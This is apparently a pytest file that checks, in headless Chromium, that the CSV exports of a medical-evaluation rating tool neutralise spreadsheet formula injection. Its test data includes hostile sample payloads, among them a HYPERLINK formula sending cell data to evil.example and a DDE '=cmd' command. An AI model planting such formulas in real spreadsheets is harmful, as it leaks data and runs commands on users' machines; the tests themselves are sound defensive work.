"""Spreadsheet formula injection, in real headless Chromium: a comment a rater types that a
spreadsheet would run as a formula (=, +, -, @) is exported from the packet with a leading ``'``,
and the importers give back exactly what the rater typed. Both packets that share packet.js are
exercised: the expert panel's and the red-team review queue's.
"""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any

import pytest
from test_browser import CHROMIUM, Visit

from medeval.redteam.review import export_review, read_returned
from medeval.rubrics.packet import export_panel, load_panel
from medeval.rubrics.ratings import read_ratings
from medeval.rubrics.rubric import load_rubric
from panel_runs import redteam_answer_run
from review_runs import review_run

pytestmark = pytest.mark.browser

if not CHROMIUM.exists():
    pytest.skip("Debian's chromium is not installed at /usr/bin/chromium", allow_module_level=True)
sync_api = pytest.importorskip("playwright.sync_api")

# What raters type, and the cell the exported CSV must hold for it.
COMMENTS = {
    '=HYPERLINK("http://evil.example/?"&A1,"click")': "'=HYPERLINK(",
    "+1 agree": "'+1 agree",
    "-2 points for tone": "'-2 points for tone",
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "\t=cmd|' /C calc'!A0": "'\t=cmd",
    "'=already quoted by the rater": "''=already",
    "fine, no formula": "fine, no formula",
    "x=1 is not a formula": "x=1 is not",
}


def _export(chromium: Any, packet: Path, fill: dict[str, dict[str, str]], target: Path) -> None:
    """Open a packet, enter the values (radio choices and comments), export the CSV."""
    visit = Visit(chromium, packet)
    page = visit.page
    try:
        for item, values in fill.items():
            for field, value in values.items():
                if field == "comment":
                    page.locator(f'textarea[name="{item}:comment"]').fill(value)
                else:
                    page.locator(f'input[name="{item}:{field}"][value="{value}"]').check()
        with page.expect_download() as info:
            page.locator("#export").click()
        info.value.save_as(target)
        visit.assert_clean()
    finally:
        visit.close()


def _exported_comments(path: Path) -> dict[str, str]:
    with path.open(encoding="utf-8", newline="") as handle:
        return {row["item"]: row["comment"] for row in csv.DictReader(handle)}


def _check_cells(exported: dict[str, str], typed: dict[str, str]) -> None:
    for item, comment in typed.items():
        assert exported[item].startswith(COMMENTS[comment]), (comment, exported[item])
        assert exported[item][0] not in "=+-@\t"  # nothing a spreadsheet would evaluate


def test_panel_packet_neutralises_formulas(chromium: Any, tmp_path: Path) -> None:
    runs = [redteam_answer_run(tmp_path / "a", "alpha-model")]
    panel = export_panel(
        runs,
        tmp_path / "panel",
        rubric=load_rubric(),
        raters=["r1"],
        n=len(COMMENTS),
        tasks=["redteam"],
        progress=False,
    )
    items = sorted(panel.items)
    assert len(items) == len(COMMENTS)
    typed = dict(zip(items, COMMENTS, strict=True))
    fill = {
        item: {"accuracy": "4", "safety": "4", "clarity": "4", "completeness": "4"}
        | {"helpful": "yes", "comment": comment}
        for item, comment in typed.items()
    }
    target = tmp_path / "ratings-r1.csv"
    _export(chromium, panel.path / "packets" / "r1.html", fill, target)
    _check_cells(_exported_comments(target), typed)
    imported = read_ratings(load_panel(panel.path), [target])
    # What the rater typed comes back (the importer strips the cell's outer blanks).
    assert {r.item: r.comment for r in imported.ratings} == {
        item: comment.strip() for item, comment in typed.items()
    }


def test_review_packet_neutralises_formulas(chromium: Any, tmp_path: Path) -> None:
    run = review_run(tmp_path / "run", ["needs_review"] * 4 + ["cleared"] * 4)
    made = export_review(run, tmp_path / "review", raters=["r1"], audit=4, seed=5)
    items = sorted(made.items)
    typed = dict(zip(items, COMMENTS, strict=False))
    fill = {item: {"verdict": "safe", "comment": comment} for item, comment in typed.items()}
    target = made.path / "ratings" / "ratings-r1.csv"
    _export(chromium, made.path / "packets" / "r1.html", fill, target)
    _check_cells(_exported_comments(target), typed)
    verdicts, _ = read_returned(run, [target])
    assert {v.item: v.comment for v in verdicts} == {
        item: comment.strip() for item, comment in typed.items()
    }
